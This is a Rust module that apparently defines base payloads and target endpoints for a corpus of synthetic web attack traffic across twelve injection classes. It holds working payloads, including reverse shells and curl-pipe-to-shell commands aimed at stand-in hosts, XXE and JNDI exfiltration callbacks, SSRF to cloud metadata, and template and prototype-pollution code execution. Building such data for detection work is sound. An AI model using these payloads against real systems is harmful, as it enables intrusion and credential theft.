//! The base payloads of every attack class, where each class is sent, and the sinks (API
//! endpoints and fields) that receive it.
//!
//! Written for this corpus from how the attacks work; not copied from any payload list.
//! Each payload is something an attacker or a scanner really sends, from the first probe to
//! hand-written evasions (its `technique`). Attacker infrastructure uses reserved names and
//! documentation addresses (`attacker.example`, `203.0.113.9`).

use super::Placement::{self, Cookie, Form, Header, JsonBody, Multipart, Path, Query, Xml};
use super::request::hosts::{
    ANALYTICS, CHAT, CMS, CODE, FILES, HOOKS, ID, MAIL, MAPS, SEARCH, SHOP, SUPPORT,
};

/// How a payload is put into a request.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Shape {
    /// A string the application reads from one field.
    Text,
    /// A JSON object whose members the application merges into its own objects (NoSQL
    /// operator objects, prototype-polluting keys). JSON bodies carry it as structure,
    /// queries, forms and multipart parts as bracketed keys, cookies as `j:` JSON.
    Members,
    /// A whole XML document (XXE).
    Document,
}

#[derive(Clone, Copy, Debug)]
pub(crate) struct Payload {
    pub text: &'static str,
    pub shape: Shape,
    /// How the payload itself is written: `none` or the name of its evasion.
    pub technique: &'static str,
    /// When set, the only placements (of its class's) this payload is sent in: shellshock
    /// only works through environment variables, which CGI fills from headers.
    pub only: Option<&'static [Placement]>,
}

const fn p(text: &'static str) -> Payload {
    Payload { text, shape: Shape::Text, technique: "none", only: None }
}

const fn members(text: &'static str) -> Payload {
    Payload { text, shape: Shape::Members, technique: "none", only: None }
}

const fn document(text: &'static str) -> Payload {
    Payload { text, shape: Shape::Document, technique: "none", only: None }
}

impl Payload {
    const fn via(self, technique: &'static str) -> Payload {
        Payload { technique, ..self }
    }

    const fn only(self, placements: &'static [Placement]) -> Payload {
        Payload { only: Some(placements), ..self }
    }
}

/// An endpoint and the field of it that receives payloads. `path` is a collection path:
/// path-segment placements append the payload as the next segment.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Sink {
    pub host: &'static str,
    pub path: &'static str,
    pub field: &'static str,
}

const fn sink(host: &'static str, path: &'static str, field: &'static str) -> Sink {
    Sink { host, path, field }
}

/// One attack class: where it is sent and what.
#[derive(Debug)]
pub(crate) struct ClassSpec {
    pub class: &'static str,
    pub placements: &'static [Placement],
    pub sinks: &'static [Sink],
    /// Headers that carry the payload in the header placement.
    pub headers: &'static [&'static str],
    /// Cookie names that carry the payload in the cookie placement.
    pub cookies: &'static [&'static str],
    pub payloads: &'static [Payload],
}

pub(crate) fn spec(class: &str) -> Option<&'static ClassSpec> {
    SPECS.iter().find(|s| s.class == class)
}

pub(crate) const SPECS: &[ClassSpec] =
    &[SQLI, XSS, CMDI, PATH_TRAVERSAL, SSRF, XXE, NOSQLI, LDAPI, SSTI, JNDI, CRLF, PROTOTYPE_POLLUTION];

const ALL: &[Placement] = &[Path, Query, Header, Cookie, JsonBody, Form, Multipart, Xml];

const SQLI: ClassSpec = ClassSpec {
    class: "sqli",
    placements: ALL,
    sinks: &[
        sink(SHOP, "/api/v1/products", "category"),
        sink(SHOP, "/api/v1/orders", "id"),
        sink(SUPPORT, "/api/tickets", "status"),
        sink(CMS, "/api/v2/articles", "author"),
        sink(SEARCH, "/v1/search", "sort"),
        sink(ID, "/api/login", "username"),
    ],
    headers: &["user-agent", "referer", "x-forwarded-for", "x-search", "x-tenant-id"],
    cookies: &["TrackingId", "cart_id", "lang"],
    payloads: &[
        p("' OR '1'='1"),
        p("' OR 1=1-- -"),
        p("admin'--"),
        p("1 OR 1=1"),
        p("') OR ('a'='a"),
        p("1 UNION SELECT username, password FROM users--"),
        p("' UNION SELECT NULL, NULL, version()-- -"),
        p("-1' UNION ALL SELECT 1,@@version,3#"),
        p("1; DROP TABLE orders--"),
        p("'; EXEC xp_cmdshell('whoami')--"),
        p("1' AND SLEEP(5)-- -"),
        p("1'; WAITFOR DELAY '0:0:5'--"),
        p("1' AND 1=(SELECT 1 FROM pg_sleep(5))-- -"),
        p("' AND 1=CONVERT(int, (SELECT @@version))--"),
        p("1 AND extractvalue(1, concat(0x7e, (SELECT database())))"),
        p("' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1), 1, 1)) > 64-- -"),
        p("'||(SELECT CASE WHEN (1=1) THEN pg_sleep(3) ELSE pg_sleep(0) END)||'"),
        p("1' ORDER BY 7-- -"),
        p("1 UnIoN SeLeCt 1, table_name, 3 FrOm information_schema.tables-- -").via("case"),
        p("AdMiN' oR 1=1#").via("case"),
        p("1/**/UNION/**/SELECT/**/username,password/**/FROM/**/users").via("comment"),
        p("1/*!50000UNION*//*!50000SELECT*/1,2,3--").via("comment"),
        p("'/**/OR/**/'1'='1").via("comment"),
        p("'\tOR\t1=1\t--\t").via("whitespace"),
        p("1\nUNION\nALL\nSELECT\nNULL,table_name\nFROM\ninformation_schema.tables").via("whitespace"),
    ],
};

const XSS: ClassSpec = ClassSpec {
    class: "xss",
    placements: ALL,
    sinks: &[
        sink(CMS, "/api/v2/comments", "body"),
        sink(SUPPORT, "/api/tickets", "subject"),
        sink(CHAT, "/api/messages", "text"),
        sink(SHOP, "/api/v1/reviews", "title"),
        sink(SEARCH, "/v1/search", "q"),
        sink(ID, "/api/users", "display_name"),
    ],
    headers: &["user-agent", "referer", "x-search", "x-forwarded-host"],
    cookies: &["last_search", "display_name", "theme"],
    payloads: &[
        p("<script>alert(document.domain)</script>"),
        p("\"><script>alert(1)</script>"),
        p("<img src=x onerror=alert(1)>"),
        p("<svg onload=alert(1)>"),
        p("'><img src=x onerror=fetch('//attacker.example/c?'+document.cookie)>"),
        p("javascript:alert(document.cookie)"),
        p("\" onmouseover=\"alert(1)"),
        p("</textarea><script>alert(1)</script>"),
        p("<iframe src=\"javascript:alert(1)\"></iframe>"),
        p("<body onload=alert(1)>"),
        p("<details open ontoggle=alert(1)>"),
        p("<input autofocus onfocus=alert(1)>"),
        p("';alert(String.fromCharCode(88,83,83))//"),
        p("<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
        p("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
        p("<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>")
            .via("data_uri"),
        p("<img src=x onerror=eval(atob('YWxlcnQoMSk='))>").via("atob"),
        p("<ScRiPt>alert(1)</sCrIpT>").via("case"),
        p("<a href=\"JaVaScRiPt:alert(1)\">click</a>").via("case"),
        p("<IMG SRC=x OnErRoR=alert(1)>").via("case"),
        p("<svg/onload=alert(document.cookie)>").via("whitespace"),
        p("<img\nsrc=x\nonerror=alert(1)>").via("whitespace"),
        p("<img\tsrc=x\tonerror=alert(1)>").via("whitespace"),
        p("<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>")
            .via("html_entity"),
        p("<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">").via("html_entity"),
        p("<svg><script>alert&#40;1&#41;</script></svg>").via("html_entity"),
    ],
};

const CMDI: ClassSpec = ClassSpec {
    class: "cmdi",
    placements: ALL,
    sinks: &[
        sink(HOOKS, "/api/diagnostics/ping", "host"),
        sink(FILES, "/api/v1/thumbnails", "filename"),
        sink(CODE, "/api/v3/mirrors", "branch"),
        sink(MAPS, "/v1/tiles/render", "style"),
        sink(FILES, "/api/v1/archives", "name"),
    ],
    headers: &["user-agent", "referer", "x-forwarded-for"],
    cookies: &["lang", "device_id"],
    payloads: &[
        p("; id"),
        p("| cat /etc/passwd"),
        p("&& whoami"),
        p("$(id)"),
        p("`uname -a`"),
        p("127.0.0.1; cat /etc/shadow"),
        p("8.8.8.8 | nc 203.0.113.9 4444 -e /bin/sh"),
        p("; curl -s http://203.0.113.9/x.sh | sh"),
        p("|| ping -c 10 127.0.0.1"),
        p("; sleep 10 #"),
        p("a; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        p(r"& type C:\Windows\win.ini"),
        p(
            "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"",
        ),
        p("() { :; }; /bin/bash -c 'cat /etc/passwd'").only(&[Header, Cookie]),
        p("() { :;}; echo; /usr/bin/id").only(&[Header, Cookie]),
        p(";w'h'o'am'i").via("quote_split"),
        p(";c\"a\"t /e\"t\"c/pa\"ss\"wd").via("quote_split"),
        p(";cat${IFS}/etc/passwd").via("ifs"),
        p(";{cat,/etc/passwd}").via("brace_expansion"),
        p(";/???/c?t /???/p?ss??").via("glob"),
        p("x\nid\n").via("newline"),
        p("127.0.0.1\ncat /etc/passwd").via("newline"),
        p(";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh").via("base64_pipe"),
        p(";cat ${HOME:0:1}etc${HOME:0:1}passwd").via("variable"),
        p("& WhOaMi /PrIv").via("case"),
    ],
};

const PATH_TRAVERSAL: ClassSpec = ClassSpec {
    class: "path_traversal",
    placements: ALL,
    sinks: &[
        sink(FILES, "/api/v1/download", "file"),
        sink(CMS, "/api/v2/themes/templates", "template"),
        sink(CODE, "/api/v3/raw", "path"),
        sink(SUPPORT, "/api/attachments", "name"),
        sink(MAIL, "/api/i18n", "lang"),
    ],
    headers: &["accept-language", "x-file-name"],
    cookies: &["lang", "template", "theme"],
    payloads: &[
        p("../../../../etc/passwd"),
        p("../../../../../../etc/shadow"),
        p("/etc/passwd").via("absolute_path"),
        p("../../../../proc/self/environ"),
        p("../../../../../var/log/nginx/access.log"),
        p("../../../../home/app/.ssh/id_rsa"),
        p("../../../.env"),
        p("../../../../../../../../../../boot.ini"),
        p("/var/www/html/../../../etc/passwd"),
        p("images/../../../../etc/group"),
        p(r"..\..\..\..\windows\win.ini").via("backslash"),
        p(r"..\..\..\..\..\windows\system32\config\sam").via("backslash"),
        p("....//....//....//etc/passwd").via("dot_doubling"),
        p("..././..././..././etc/passwd").via("dot_doubling"),
        p(r"....\\....\\....\\windows\\win.ini").via("dot_doubling"),
        p("..;/..;/..;/WEB-INF/web.xml").via("semicolon"),
        p(r"..\/..\/..\/..\/etc/passwd").via("mixed_separators"),
        p("../../../../etc/passwd\0.png").via("null_byte"),
        p("../../../../windows/win.ini\0.jpg").via("null_byte"),
    ],
};

const SSRF: ClassSpec = ClassSpec {
    class: "ssrf",
    placements: &[Path, Query, Header, JsonBody, Form, Multipart, Xml],
    sinks: &[
        sink(HOOKS, "/api/webhooks", "url"),
        sink(CMS, "/api/v2/media/import", "source_url"),
        sink(CHAT, "/api/unfurl", "link"),
        sink(FILES, "/api/v1/imports", "url"),
        sink(ID, "/api/users/me/avatar", "avatar_url"),
        sink(MAPS, "/v1/tiles/proxy", "tile_url"),
    ],
    headers: &["referer", "x-callback-url"],
    cookies: &[],
    payloads: &[
        p("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        p("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        p("http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
        p("http://100.100.100.200/latest/meta-data/"),
        p("http://[fd00:ec2::254]/latest/meta-data/"),
        p("http://localhost:8080/admin"),
        p("http://127.0.0.1:2375/containers/json"),
        p("http://0.0.0.0:9200/_cat/indices"),
        p("http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        p("http://[::1]:6379/"),
        p("gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20pwned%0D%0A"),
        p("dict://127.0.0.1:11211/stats"),
        p("file:///etc/passwd"),
        p("http://2852039166/latest/meta-data/").via("decimal_ip"),
        p("http://0251.0376.0251.0376/latest/meta-data/").via("octal_ip"),
        p("http://0xa9fea9fe/latest/meta-data/").via("hex_ip"),
        p("http://[::ffff:169.254.169.254]/latest/meta-data/").via("ipv6_mapped"),
        p("http://127.1:8080/server-status").via("short_ip"),
        p("http://0177.0.0.1:8500/v1/agent/self").via("octal_ip"),
        p("http://trusted.example.com@127.0.0.1:8080/actuator/env").via("userinfo"),
        p("http://169.254.169.254.nip.io/latest/meta-data/").via("wildcard_dns"),
        p("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/").via("unicode_digits"),
    ],
};

const XXE: ClassSpec = ClassSpec {
    class: "xxe",
    placements: &[Xml],
    sinks: &[
        sink(SHOP, "/api/v1/b2b/orders", "order"),
        sink(SUPPORT, "/soap/TicketService", "ticket"),
        sink(CMS, "/api/v2/import", "feed"),
        sink(FILES, "/api/v1/avatars", "svg"),
        sink(ANALYTICS, "/v1/reports/import", "report"),
    ],
    headers: &[],
    cookies: &[],
    payloads: &[
        document(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<order><customer>&xxe;</customer><sku>TSH-0042-BLU</sku><qty>1</qty></order>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE ticket [<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">]>\n<ticket><subject>&xxe;</subject><priority>low</priority></ticket>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE search [<!ENTITY meta SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<search><term>&meta;</term></search>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\">\n  %remote;\n]>\n<data>4</data>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE data [\n  <!ENTITY % file SYSTEM \"file:///etc/hostname\">\n  <!ENTITY % dtd SYSTEM \"http://attacker.example/exfil.dtd\">\n  %dtd;\n  %send;\n]>\n<data>&exfil;</data>",
        )
        .via("parameter_entity"),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE profile [<!ENTITY x SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">]>\n<profile><bio>&x;</bio></profile>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n <!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n <!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">\n <!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">\n]>\n<lolz>&lol6;</lolz>",
        )
        .via("entity_expansion"),
        document(concat!(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE kaboom [<!ENTITY a \"",
            "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "\">]>\n<kaboom>",
            "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;",
            "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;",
            "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;",
            "</kaboom>"
        ))
        .via("entity_expansion"),
        document(
            "<report xmlns:xi=\"http://www.w3.org/2001/XInclude\">\n  <title>Q1</title>\n  <xi:include parse=\"text\" href=\"file:///etc/passwd\"/>\n</report>",
        )
        .via("xinclude"),
        document(
            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\">\n  <soap:Body>\n    <GetTicket xmlns=\"urn:example:support\"><TicketId>&xxe;</TicketId></GetTicket>\n  </soap:Body>\n</soap:Envelope>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE order PUBLIC \"-//ACME//DTD Order 1.0//EN\" \"http://attacker.example/order.dtd\">\n<order><id>7</id></order>",
        ),
        document(
            "<?xml version=\"1.0\" standalone=\"no\"?>\n<!DOCTYPE svg SYSTEM \"http://attacker.example/probe.dtd\">\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"/>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE user [<!ENTITY cmd SYSTEM \"expect://id\">]>\n<user><name>&cmd;</name></user>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY j SYSTEM \"jar:http://attacker.example/evil.zip!/payload.txt\">]>\n<r>&j;</r>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE invoice [<!ENTITY n SYSTEM \"netdoc:///etc/passwd\">]>\n<invoice><note>&n;</note></invoice>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE message [\n  <!ENTITY % local_dtd SYSTEM \"file:///usr/share/yelp/dtd/docbookx.dtd\">\n  <!ENTITY % ISOamso '\n    <!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\">\n    <!ENTITY &#x25; eval \"<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>\">\n    &#x25;eval;\n    &#x25;error;\n  '>\n  %local_dtd;\n]>\n<message>hello</message>",
        )
        .via("parameter_entity"),
        document(
            "<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"20\"><text x=\"0\" y=\"15\">&x;</text></svg>",
        ),
        document(
            "<?xml version=\"1.0\"?>\n<!DOCTYPE\n\tdata\n\t[\n\t<!ENTITY\n\t\tsecret\n\t\tSYSTEM\n\t\t\"file:///etc/passwd\"\n\t>\n\t]\n>\n<data>&secret;</data>",
        )
        .via("whitespace"),
        document("<!DOCTYPE r[<!ENTITY x SYSTEM 'file:///proc/self/environ'>]><r>&x;</r>").via("compact"),
    ],
};

const NOSQLI: ClassSpec = ClassSpec {
    class: "nosqli",
    placements: &[Path, Query, Cookie, JsonBody, Form, Multipart],
    sinks: &[
        sink(ID, "/api/login", "password"),
        sink(SHOP, "/api/v1/users", "email"),
        sink(SUPPORT, "/api/tickets", "assignee"),
        sink(CMS, "/api/v2/articles", "slug"),
        sink(CHAT, "/api/users/lookup", "username"),
    ],
    headers: &[],
    cookies: &["session", "user"],
    payloads: &[
        members(r#"{"username": "admin", "password": {"$ne": null}}"#),
        members(r#"{"username": {"$ne": ""}, "password": {"$ne": ""}}"#),
        members(r#"{"username": {"$gt": ""}, "password": {"$gt": ""}}"#),
        members(r#"{"username": "admin", "password": {"$regex": ".*"}}"#),
        members(r#"{"username": {"$regex": "^adm"}, "password": {"$exists": true}}"#),
        members(r#"{"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$gt": ""}}"#),
        members(r#"{"username": {"$nin": [""]}, "password": {"$nin": [""]}}"#),
        members(r#"{"username": "admin", "password": {"$not": {"$eq": "wrong"}}}"#),
        members(r#"{"email": {"$regex": "^a.*@"}, "reset_token": {"$ne": null}}"#),
        members(r#"{"$where": "sleep(5000) || true"}"#),
        members(r#"{"$where": "function() { return this.role == 'admin'; }"}"#),
        members(r#"{"username": "admin", "$expr": {"$eq": [1, 1]}}"#),
        members(
            r#"{"$expr": {"$function": {"body": "function() { sleep(3000); return true; }", "args": [], "lang": "js"}}}"#,
        ),
        members(r#"{"$or": [{"username": "admin"}, {"username": {"$ne": null}}]}"#),
        members(r#"{"token": {"$regex": "^a"}}"#),
        p("admin' || '1'=='1"),
        p("'; return true; var foo='"),
        p("1; sleep(5000)"),
        p("' && this.password.match(/^a.*$/)//"),
        p("'; while(true){}; var x='"),
        p(r#"{"$gt": ""}"#),
        p(r#"{"$where": "sleep(5000)"}"#),
        p("0 || 1==1"),
        p("'; sleep(5000); var a='"),
        p("admin'; return this.password != ''; var x='"),
    ],
};

const LDAPI: ClassSpec = ClassSpec {
    class: "ldapi",
    placements: &[Path, Query, Header, JsonBody, Form, Multipart, Xml],
    sinks: &[
        sink(ID, "/api/directory/users", "uid"),
        sink(ID, "/api/login", "username"),
        sink(SUPPORT, "/api/agents/search", "name"),
        sink(MAIL, "/api/address-book", "mail"),
    ],
    headers: &["x-remote-user", "x-forwarded-user"],
    cookies: &[],
    payloads: &[
        p("*)(uid=*))(|(uid=*"),
        p("admin)(&)"),
        p("*)(|(objectClass=*)"),
        p("admin)(|(password=*))"),
        p("*)(userPassword=*)"),
        p("admin*)((|userPassword=*)"),
        p("*))(|(cn=*"),
        p("admin)(!(&(1=0"),
        p("*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=example"),
        p("admin)(userPassword=a*"),
        p("*)(sn=a*"),
        p("*)(objectClass=*))(&(objectClass=void"),
        p("admin)(|(userAccountControl:1.2.840.113556.1.4.803:=2)"),
        p("*)(|(mail=*@*)"),
        p("jdoe)(|(department=*)(title=*admin*)"),
        p("*)(&(objectCategory=person)(objectClass=user)"),
        p("admin)(uid=*))\0").via("null_byte"),
        p("*)(ObjectClass=*").via("case"),
        p("*)(UID=*))(|(UID=*").via("case"),
    ],
};

const SSTI: ClassSpec = ClassSpec {
    class: "ssti",
    placements: ALL,
    sinks: &[
        sink(MAIL, "/api/templates/preview", "body"),
        sink(CMS, "/api/v2/pages", "title"),
        sink(SUPPORT, "/api/macros", "text"),
        sink(SHOP, "/api/v1/gift-cards", "message"),
        sink(CHAT, "/api/bots/replies", "template"),
    ],
    headers: &["user-agent", "referer", "x-search"],
    cookies: &["display_name", "greeting"],
    payloads: &[
        p("{{7*7}}"),
        p("${7*7}"),
        p("<%= 7*7 %>"),
        p("#{7*7}"),
        p("{{7*'7'}}"),
        p("{{7*7}}${7*7}<%= 7*7 %>${{7*7}}#{7*7}"),
        p("{{config.items()}}"),
        p("{{''.__class__.__mro__[1].__subclasses__()}}"),
        p("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
        p("{{cycler.__init__.__globals__.os.popen('id').read()}}"),
        p("{%print(lipsum.__globals__.os.popen('id').read())%}"),
        p("${T(java.lang.Runtime).getRuntime().exec('id')}"),
        p("*{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
        p("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        p("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
        p("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        p("{{['id']|filter('system')}}"),
        p("{% import os %}{{ os.popen('id').read() }}"),
        p("{system('id')}"),
        p("<%= `id` %>"),
        p("@(System.Diagnostics.Process.Start(\"cmd.exe\", \"/c whoami\"))"),
        p(
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
        ),
        p("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}").via("hex_escape"),
        p("{{''['__cl'+'ass__']['__m'+'ro__'][1]['__subcl'+'asses__']()}}").via("string_concat"),
        p("{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}")
            .via("whitespace"),
    ],
};

const JNDI: ClassSpec = ClassSpec {
    class: "jndi",
    placements: ALL,
    sinks: &[
        sink(SHOP, "/api/v1/products", "q"),
        sink(SUPPORT, "/api/tickets", "subject"),
        sink(ID, "/api/login", "username"),
        sink(ANALYTICS, "/v1/events", "event"),
        sink(SEARCH, "/v1/search", "q"),
    ],
    headers: &["user-agent", "referer", "x-forwarded-for", "x-api-version"],
    cookies: &["session_id", "locale"],
    payloads: &[
        p("${jndi:ldap://attacker.example:1389/a}"),
        p("${jndi:rmi://203.0.113.9:1099/Exploit}"),
        p("${jndi:dns://x7f3.dnslog.example/a}"),
        p("${jndi:ldaps://attacker.example/o=tomcat}"),
        p("${jndi:iiop://attacker.example:1050/a}"),
        p("${jndi:http://attacker.example/a}"),
        p("${jndi:ldap://${env:USER}.attacker.example/a}"),
        p("${jndi:ldap://${sys:java.version}.v.attacker.example/a}"),
        p("${jndi:ldap://${hostName}.attacker.example/a}"),
        p("${jndi:ldap://127.0.0.1#attacker.example:1389/a}"),
        p("${${lower:j}ndi:${lower:l}dap://attacker.example/a}").via("nested_lookup"),
        p("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}").via("nested_lookup"),
        p("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}")
            .via("nested_lookup"),
        p("${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}").via("nested_lookup"),
        p("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}").via("nested_lookup"),
        p("${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}").via("nested_lookup"),
        p("${${upper:j}ndi:ldap://attacker.example/a}").via("nested_lookup"),
        p("${JnDi:lDaP://attacker.example/a}").via("case"),
        p("${${::-${::-$${::-j}}}}").via("recursion"),
    ],
};

const CRLF: ClassSpec = ClassSpec {
    class: "crlf",
    placements: &[Path, Query, Cookie, JsonBody, Form, Multipart],
    sinks: &[
        sink(ID, "/api/auth/logout", "redirect"),
        sink(SHOP, "/api/v1/i18n", "lang"),
        sink(SUPPORT, "/api/contact", "email"),
        sink(CMS, "/go", "url"),
        sink(SUPPORT, "/api/contact", "subject"),
    ],
    headers: &[],
    cookies: &["lang", "return_to"],
    payloads: &[
        p("\r\nSet-Cookie: session=attacker"),
        p("\r\nLocation: https://evil.example/"),
        p("https://shop.example.test/\r\nSet-Cookie: admin=true"),
        p("en-US\r\nSet-Cookie: lang=x; Domain=.example.test"),
        p("\nSet-Cookie: tracking=injected").via("lf_only"),
        p("\rSet-Cookie: tracking=injected").via("cr_only"),
        p("\r\n\r\n<script>alert(1)</script>"),
        p(
            "\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html>defaced</html>",
        ),
        p("\r\nAccess-Control-Allow-Origin: https://evil.example"),
        p("\r\nRefresh: 0; url=https://evil.example/"),
        p("\r\nX-XSS-Protection: 0"),
        p("\r\nLink: <https://evil.example/x.css>; rel=stylesheet"),
        p("victim@example.com\r\nBcc: list@attacker.example"),
        p("victim@example.com\nCc: spam@attacker.example").via("lf_only"),
        p("Order question\r\nBcc: everyone@attacker.example\r\n"),
        p("admin\r\n2025-03-03 10:00:00 INFO login succeeded user=admin"),
        p("嘊嘍Set-Cookie: session=attacker").via("unicode_newline"),
    ],
};

const PROTOTYPE_POLLUTION: ClassSpec = ClassSpec {
    class: "prototype_pollution",
    placements: &[Path, Query, Cookie, JsonBody, Form, Multipart],
    sinks: &[
        sink(ID, "/api/users/me/preferences", "preferences"),
        sink(CMS, "/api/v2/settings", "settings"),
        sink(SHOP, "/api/v1/cart", "options"),
        sink(ANALYTICS, "/v1/events", "properties"),
        sink(CHAT, "/api/profile", "profile"),
    ],
    headers: &[],
    cookies: &["prefs", "ui_state"],
    payloads: &[
        members(r#"{"__proto__": {"isAdmin": true}}"#),
        members(r#"{"constructor": {"prototype": {"isAdmin": true}}}"#),
        members(r#"{"user": {"__proto__": {"role": "admin"}}}"#),
        members(r#"{"settings": {"theme": "dark", "__proto__": {"polluted": "yes"}}}"#),
        members(
            r#"{"__proto__": {"outputFunctionName": "x;process.mainModule.require('child_process').execSync('id');s"}}"#,
        ),
        members(
            r#"{"__proto__": {"shell": "/proc/self/exe", "argv0": "console.log(require('child_process').execSync('id').toString())//", "NODE_OPTIONS": "--require /proc/self/cmdline"}}"#,
        ),
        members(r#"{"__proto__": {"json spaces": 10}}"#),
        members(r#"{"__proto__": {"status": 510}}"#),
        members(r#"{"__proto__": {"exposedHeaders": ["X-Polluted"]}}"#),
        members(
            r#"{"constructor": {"prototype": {"sourceURL": "\u2028\u2029\nglobal.process.mainModule.require('child_process').execSync('id')"}}}"#,
        ),
        members(r#"{"__proto__": {"allowedTags": ["script", "img"]}}"#),
        members(r#"{"a": {"constructor": {"prototype": {"polluted": true}}}}"#),
        members(r#"{"filter": {"__proto__": {"admin": 1}}}"#),
        members(
            r#"{"__proto__": {"client": 1, "escapeFunction": "JSON.stringify; process.mainModule.require('child_process').exec('id')"}}"#,
        ),
        members(r#"{"profile": {"constructor": {"prototype": {"toString": "polluted"}}}}"#),
        members(r#"{"__proto__": {"headers": {"x-polluted": "1"}, "baseURL": "http://attacker.example/"}}"#),
    ],
};
